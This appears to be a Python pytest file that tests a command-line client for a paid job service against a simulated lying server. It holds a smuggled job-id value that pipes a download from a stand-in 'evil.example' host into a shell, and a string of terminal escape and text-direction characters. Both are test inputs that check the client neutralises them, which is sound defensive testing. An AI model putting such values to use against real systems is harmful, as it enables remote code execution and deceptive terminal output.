"""What a hostile server says reaches no terminal, no log and no memory as it is; and how a command
ends when it is interrupted, or when something else answers in the server's place.
"""

import asyncio
import json
import signal
from collections.abc import AsyncIterator
from pathlib import Path

import pytest

from app.buyer.client import FINAL, Client
from app.buyer.failures import Strange
from payments import lnurl
from pricing.loopback import is_here
from tests.world.ask_buyer import Buyer
from tests.world.hostile_server import JOB, Liar, Raw, Says, lying
from tests.world.patience import PATIENCE_S

STEERS = "\x1b]0;owned\x07\x9b2J\u202e\u2066\x00\r\nboltwork: paid"
SHELL = "x; curl http://evil.example | sh #"


@pytest.fixture
async def liar(tmp_path: Path) -> AsyncIterator[Liar]:
    """A server that lies."""
    async with lying(tmp_path) as made:
        yield made


@pytest.fixture
def buyer(liar: Liar, tmp_path: Path) -> Buyer:
    """Somebody at a terminal who buys there."""
    return Buyer(liar.url, tmp_path / "home", {})


def is_plain(text: str) -> bool:
    """Say whether nothing in a text steers a terminal."""
    return not any(sign in text for sign in "\x1b\x07\x9b\u202e\u2066\x00\r")


async def test_no_sentence_of_a_server_steers_a_terminal(liar: Liar, buyer: Buyer) -> None:
    """Escapes, C1, and what turns writing round are taken out where they are read, in every field,
    for files and logs as for a terminal; and a sentence stays one line.
    """
    liar.on("POST /api/estimate", Says({"error": STEERS, "next": STEERS}, 400))
    refused = await buyer.run("ask", "hello")
    assert refused.code == 2 and is_plain(refused.err) and refused.err.count("\n") == 1
    await liar.begins()
    liar.tells(liar.job("complete", result=STEERS, reason=STEERS, errorMessage=STEERS))
    for words in ((), ("--json",)):
        ended = await buyer.run("ask", "hello", *words)
        assert "owned" in ended.out and is_plain(ended.out + ended.err), ended


@pytest.mark.parametrize("job_id", [SHELL, "../../x", JOB.upper(), JOB + "\n", 5, None])
async def test_an_id_is_an_id(liar: Liar, buyer: Buyer, job_id: object) -> None:
    """What is part of a path, or of a line to copy, has the form of an id; else nothing is paid."""
    await liar.begins()
    made = {"jobId": job_id, "evalInvoice": await liar.invoice(5)}
    liar.on("POST /api/jobs", Says(made, 201, "Location: /x\x1b]0;y\x07\r\n".replace("\x1b", "")))
    ended = await buyer.run("ask", "hello")
    assert ended.code == 5 and "evil" not in ended.out + ended.err, ended
    assert not any("stub/pay" in path for _, path in liar.asked)


@pytest.mark.parametrize(
    "endless",
    [
        Raw(b"HTTP/1.1 200 OK\r\n\r\n", b" " * 65_536),
        Raw(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n", b"8\r\nxxxxxxxx\r\n"),
        Raw(b"HTTP/1.1 200 OK\r\n", b"X-Header: " + b"x" * 65_536 + b"\r\n"),
        Raw(b"HTTP/1.1 200 ", b"x" * 65_536),
        Says(b"\x1f\x8b" + b"x" * 100, headers="Content-Encoding: gzip\r\n"),
    ],
)  # fmt: skip
async def test_an_answer_without_end_is_not_read_on(
    liar: Liar, buyer: Buyer, endless: Raw | Says
) -> None:
    """A body, a header and a first line have limits, and nothing is unpacked: exit code 5."""
    liar.on("POST /api/estimate", endless)
    ended = await buyer.run("ask", "hello")
    assert ended.code == 5 and ended.err.count("\n") == 1, ended
    assert liar.sent_bytes < 64 * 1024 * 1024


async def test_a_stream_without_end_is_not_read_on(liar: Liar) -> None:
    """Nor is a line of events: a sentence ends the watch."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\nretry: 1\n\ndata: "
    liar.on(f"GET /api/jobs/{JOB}/events", Raw(head, b"x" * 65_536))
    async with Client(liar.url) as client:
        with pytest.raises(Strange, match="longer than"):
            await anext(client.watch(JOB))


@pytest.mark.parametrize("end", [
    b'id: 2\nevent: end\ndata: {"job": {\n\n', b"id: 2\nevent: end\ndata: []\n\n",
    b'id: 2\nevent: end\ndata: {"job": {"jobId": "x", "state": "complete"}}\n\n',
])  # fmt: skip
async def test_a_watch_without_an_end_asks_for_it(liar: Liar, end: bytes) -> None:
    """A last event that can't be read counts as read, and how the job ended is asked once."""
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\nretry: 1\n\n"
    told = json.dumps({"job": {"jobId": JOB, "state": "executing"}}).encode()
    state = b"id: 1\nevent: state\ndata: " + told + b"\n\n"
    liar.on(f"GET /api/jobs/{JOB}/events", Raw(head + state + end))
    liar.tells(liar.job("complete", result="done"))
    async with Client(liar.url) as client:
        states = [job["state"] async for job in client.watch(JOB)]
    assert states == ["executing", "complete"] and states[-1] in FINAL
    assert liar.asked.count(("GET", f"/api/jobs/{JOB}")) == 1


@pytest.mark.parametrize("status", [502, 504, 404, 302])
async def test_what_is_not_ours_is_5(liar: Liar, buyer: Buyer, status: int) -> None:
    """A page of a proxy, or of another site, is no refusal of a Boltwork's."""
    page = Says(b"<h1>Bad gateway</h1>", status, "Content-Type: text/html\r\nRetry-After: 0\r\n")
    for route in ("GET /api/dev/stub/invoice", "POST /api/estimate"):
        liar.on(route, page)
    ended = await buyer.run("ask", "hello", "--wallet", "scan")
    assert ended.code == 5 and f"HTTP {status}" in ended.err, ended


async def test_this_machine_is_not_asked_through_a_proxy(
    liar: Liar, buyer: Buyer, tmp_path: Path
) -> None:
    """A macaroon to loopback goes there, whatever the proxies of the environment are."""
    await liar.begins()
    (tmp_path / "proxy").mkdir()
    async with lying(tmp_path / "proxy") as proxy:
        through = {name: proxy.url for name in ("HTTP_PROXY", "http_proxy", "ALL_PROXY")}
        ended = await buyer.run("ask", "hello", "--dry-run", **through)
        assert ended.code == 0 and "at most 15 sats" in ended.out, ended
        assert proxy.asked == [] and liar.asked != []
        # Elsewhere is asked through it.
        elsewhere = {"BOLTWORK_URL": "http://boltwork.invalid"}
        assert (await buyer.run("ask", "hello", **through, **elsewhere)).code == 1
        assert proxy.asked != []


def test_what_is_on_this_machine() -> None:
    """Loopback in every form, and nothing else."""
    for host in ("127.0.0.1", "127.8.8.8", "localhost", "a.localhost", "[::1]", "0.0.0.0",
                 "[::ffff:127.0.0.1]"):  # fmt: skip
        assert is_here(f"http://{host}:8402"), host
    for host in ("example.org", "10.0.0.1", "localhost.example.org", "[2001:db8::1]"):
        assert not is_here(f"http://{host}:8402"), host


@pytest.mark.parametrize("words", [("ask", "hello"), ("watch", JOB)])
async def test_an_interrupt_ends_a_request_under_way_with_130(
    liar: Liar, buyer: Buyer, words: tuple[str, ...]
) -> None:
    """Whatever the server does about it: also when it hangs up at that very moment."""
    silent = asyncio.Event()
    writers: list[asyncio.StreamWriter] = []

    async def hear(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writers.append(writer)
        await reader.readline()
        silent.set()

    server = await asyncio.start_server(hear, "127.0.0.1", 0)
    url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    for hangs_up in (False, True):
        silent.clear()
        process = await buyer.begin(*words, BOLTWORK_URL=url)
        await asyncio.wait_for(silent.wait(), PATIENCE_S)
        if hangs_up:
            server.close()
            for writer in writers:
                writer.transport.abort()
        process.send_signal(signal.SIGINT)
        ended = await process.ended()
        assert ended.code == 130 and "Interrupted." in ended.err, ended
    for writer in writers:
        writer.transport.abort()


async def test_what_is_owed_back_is_a_code_to_scan(liar: Liar, buyer: Buyer) -> None:
    """Where no wallet takes it by itself, the end of a purchase shows an LNURL as a QR code."""
    code = lnurl.encode(f"{liar.url}/api/lnurl/withdraw/x")
    owed = {"amountSats": 7, "refundState": "pending", "lnurlWithdraw": code}
    liar.tells(liar.job("complete", result="done", refunds=[owed]))
    ended = await buyer.run("watch", JOB)
    assert ended.code == 0 and ended.out == "done\n"
    assert "7 sats are owed back to you" in ended.err and code in ended.err
    assert "█" in ended.err or "▀" in ended.err


async def test_several_words_are_one_request(liar: Liar, buyer: Buyer) -> None:
    """`boltwork ask Say hello.` asks for both words; one sat is one."""
    await liar.begins(evalSats=1, workSats=0, totalSats=1)
    ended = await buyer.run("ask", "Say", "hello.", "--dry-run")
    assert ended.code == 0, ended
    assert ended.out == "it costs at most 1 sat: 1 for the evaluation, 0 for the work\n"
